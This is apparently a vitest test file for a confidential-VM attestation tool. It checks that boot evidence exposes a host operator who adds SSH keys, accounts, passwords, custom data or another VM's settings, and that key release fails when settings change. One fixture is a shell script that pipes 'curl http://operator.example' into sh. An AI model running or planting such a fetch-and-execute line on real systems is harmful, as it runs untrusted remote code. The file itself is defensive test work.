import { createHash } from 'node:crypto'
import type { InstanceSpec, RetrievedEvidence } from '@strongroom/contract'
import { fromBase64Url, toBase64Url } from '@strongroom/evidence'
import { parseSettings, settingsText } from '@strongroom/evidence/expected'
import { openServiceStore } from '@strongroom/platform'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import type { Link, SettingsReference } from '@strongroom/trust'
import { askedWith } from '../../apps/cli/src/trust/asked-settings.ts'
import { verifyBoot } from '../../apps/cli/src/trust/report.ts'
import { startTestInstallation, type TestInstallation } from '../../apps/strongroomd/src/testing/running.ts'
import { makeVm } from '../../apps/strongroomd/src/testing/simulated-vm.ts'
import { defaultAsked, rootPaths } from '../system/support/vm.ts'

let installation: TestInstallation
let path: string
let honest: RetrievedEvidence
const foreign = 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIEJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJC operator'

beforeAll(async () => {
  installation = await startTestInstallation()
  path = await makeVm(installation, { name: 'vm', size: 'Standard_DC2as_v5' })
  honest = await evidenceOf()
})
afterAll(async () => await installation.close())

const evidenceOf = async (vm = path): Promise<RetrievedEvidence> =>
  await installation.arm<RetrievedEvidence>('POST', `${vm}/retrieveBootEvidence`)

type Profile = InstanceSpec['osProfile']

/** The host's record of a VM, edited. */
async function edit(vm: string, change: (profile: Profile) => void): Promise<void> {
  const { properties } = await installation.arm<{ properties: { vmId: string } }>('GET', vm)
  const vmId = properties.vmId.toUpperCase()
  const store = await openServiceStore(installation.running.context, 'control_plane')
  const rows = store.db.selectFrom('simulated_instance').selectAll().where('vm_id', '=', vmId)
  const status = JSON.parse((await rows.executeTakeFirstOrThrow())['status'] as string) as { spec: InstanceSpec }
  change(status.spec.osProfile)
  const changed = { status: JSON.stringify(status) }
  await store.db.updateTable('simulated_instance').set(changed).where('vm_id', '=', vmId).execute()
  await store.close()
}

/** A VM whose guest the host gives settings of its operator's, from the first boot on. */
async function madeWith(name: string, change: (profile: Profile) => void): Promise<RetrievedEvidence> {
  const vm = await makeVm(installation, { name, size: 'Standard_DC2as_v5' })
  await edit(vm, change)
  return await evidenceOf(vm)
}

async function settingsOf(
  retrieved: RetrievedEvidence,
  settings: SettingsReference = { by: 'owner', asked: honest.asked! },
): Promise<Link> {
  const { asked: _, ...evidence } = retrieved
  const report = await verifyBoot({
    name: 'vm',
    evidence,
    ...defaultAsked,
    encryption: 'DiskWithVMGuestState',
    size: 'Standard_DC2as_v5',
    paths: rootPaths(installation.running.context.stateDir),
    at: new Date(),
    fetchKeySet: async (issuer) => (await installation.wire.request({ method: 'GET', url: `${issuer}/certs` })).body,
    settings,
  })
  return report.links.find(({ id }) => id === 'settings')!
}

describe('the operator of a VM’s first boot', () => {
  it('is believed where the guest took what its owner asked for, by each reference there is', async () => {
    const asked = honest.asked!
    expect(asked).toEqual({ adminUsername: 'azureuser', sshPublicKeys: [expect.stringMatching(/^ssh-ed25519 /)] })
    for (const by of ['owner', 'creator', 'resource manager'] as const)
      expect(await settingsOf(honest, { by, asked })).toMatchObject({ outcome: 'verified' })
    // A comment grants no access.
    const renamed = { ...asked, sshPublicKeys: asked.sshPublicKeys.map((key) => `${key} at home`) }
    expect(await settingsOf(honest, { by: 'owner', asked: renamed })).toMatchObject({ outcome: 'verified' })
    const settled = fromBase64Url(honest.settled!)
    expect(await settingsOf(honest, { by: 'file', settled })).toMatchObject({ outcome: 'verified' })
  })

  it('is found out when the guest was given one more key, whatever the evidence then says (attack B5)', async () => {
    const attacked = await madeWith('keyed', (profile) => profile.sshPublicKeys.push(foreign))
    expect(await settingsOf(attacked)).toMatchObject({
      outcome: 'refused',
      why: expect.stringContaining('accepts SSH keys that were not requested (PCR 14)') as string,
      expected: expect.stringMatching(/^ssh-ed25519 SHA256:/) as string,
      // ssh-keygen -lf of the key
      actual: expect.stringMatching(/^ssh-ed25519 SHA256:[A-Za-z0-9+/]{43}$/) as string,
    })
    // An earlier list with the current quote.
    const lying = { ...attacked, settled: honest.settled! }
    expect(await settingsOf(lying)).toMatchObject({
      outcome: 'refused',
      why: expect.stringContaining('The guest set up other accounts, keys or data') as string,
      expected: honest.measuredBoot!.pcrs['14'],
      actual: attacked.measuredBoot!.pcrs['14'],
    })
    // With the earlier register as well, the quote does not cover these registers, and nothing rests on it.
    const forged = structuredClone(lying)
    forged.measuredBoot!.pcrs['14'] = honest.measuredBoot!.pcrs['14']!
    expect(await settingsOf(forged)).toMatchObject({ outcome: 'not checked' })
    // A host that reports nothing is not trusted either.
    const { settled: _, ...silent } = attacked
    expect((await settingsOf(silent)).outcome).toBe('not checked')
  })

  it('is found out with other custom data, another account, or the settings of another VM (attack B5)', async () => {
    const settings = parseSettings(fromBase64Url(honest.settled!))
    const script = Buffer.from('#!/bin/sh\ncurl http://operator.example | sh\n')
    const given = await madeWith('given', (profile) => void (profile.customData = script.toString('base64')))
    expect(await settingsOf(given)).toMatchObject({
      outcome: 'refused',
      why: expect.stringContaining('custom data') as string,
      expected: 'none',
      actual: askedWith({ ...settings, customData: script }).customDataSha256,
    })
    // Custom data that its owner names is accepted, by its digest.
    const asked = askedWith({ ...honest.asked!, customData: script })
    expect(await settingsOf(given, { by: 'owner', asked })).toMatchObject({ outcome: 'verified' })
    const renamed = await madeWith('renamed', (profile) => void (profile.adminUsername = 'operator'))
    expect(await settingsOf(renamed)).toMatchObject({ outcome: 'refused', expected: 'azureuser', actual: 'operator' })
    // An unrequested password is a way in as well.
    const opened = await madeWith('opened', (profile) => void (profile.passwordSha256 = 'ab'.repeat(32)))
    expect(await settingsOf(opened)).toMatchObject({ outcome: 'refused', expected: 'none', actual: 'ab'.repeat(32) })
    const known = { ...honest.asked!, passwordSha256: 'ab'.repeat(32) }
    expect(await settingsOf(opened, { by: 'resource manager', asked: known })).toMatchObject({ outcome: 'verified' })
    // Another VM's file is another register.
    const copied = toBase64Url(settingsText({ ...settings, vmId: 'FFFFFFFF-FFFF-FFFF-FFFF-FFFFFFFFFFFF' }))
    expect(await settingsOf({ ...honest, settled: copied })).toMatchObject({ outcome: 'refused' })
  })
})

describe('the operator of a later boot', () => {
  /** As a vault would that never heard of the VM. */
  async function forgetSettings(): Promise<void> {
    const store = await openServiceStore(installation.running.context, 'vault')
    await store.db.deleteFrom('vm_settings').execute()
    await store.close()
  }

  it('gives the guest no other settings: the vault releases no key for them, and the vTPM has the first (attacks H24, H25)', async () => {
    const vm = await makeVm(installation, { name: 'later', size: 'Standard_DC2as_v5' })
    const first = await evidenceOf(vm)
    const digest = createHash('sha256').update(fromBase64Url(first.settled!)).digest('hex')
    expect(claimedIn(first)).toBe(digest)
    expect((await settingsOf(first)).shows).toContainEqual(expect.stringContaining('in the attested claims'))
    const boot = async (): Promise<RetrievedEvidence> => {
      await installation.run('POST', `${vm}/restart`)
      return await evidenceOf(vm)
    }
    await edit(vm, (profile) => profile.sshPublicKeys.push(foreign))
    await expect(boot()).rejects.toMatchObject({
      code: 'KeyReleaseRefused',
      message: expect.stringContaining('only to boots with the settings') as string,
      expected: digest,
      found: expect.stringMatching(/^[0-9a-f]{64}$/) as string,
    })
    await forgetSettings()
    await expect(boot()).rejects.toMatchObject({ code: 'SettingsChanged', expected: `settings with SHA-256 ${digest}` })
    await edit(vm, (profile) => void profile.sshPublicKeys.pop())
    await forgetSettings()
    expect(claimedIn(await boot())).toBe(digest)
  })
})

function claimedIn({ runtimeClaims }: RetrievedEvidence): unknown {
  const claims = JSON.parse(Buffer.from(runtimeClaims, 'base64url').toString()) as Record<
    string,
    Record<string, unknown>
  >
  return claims['vm-configuration']?.['settings-sha256']
}
